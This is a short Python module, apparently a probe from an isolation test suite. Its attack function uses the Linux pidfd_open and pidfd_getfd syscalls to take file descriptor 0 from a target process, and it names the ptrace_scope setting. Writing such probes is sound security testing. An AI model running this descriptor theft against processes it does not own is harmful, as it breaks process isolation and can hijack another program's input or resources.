"""Take a descriptor of a host process."""

from __future__ import annotations

import ctypes
import platform

ORIGIN = "pidfd_getfd takes descriptors from other processes."
SEEN = "claimed"
SETTING = "kernel.yama.ptrace_scope"


def _call(x86_64, aarch64, *arguments):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    return libc.syscall(x86_64 if platform.machine() == "x86_64" else aarch64, *arguments)


def attack(target):
    pidfd = _call(434, 434, target["pid"], 0)
    return pidfd >= 0 and _call(438, 438, pidfd, 0, 0) >= 0
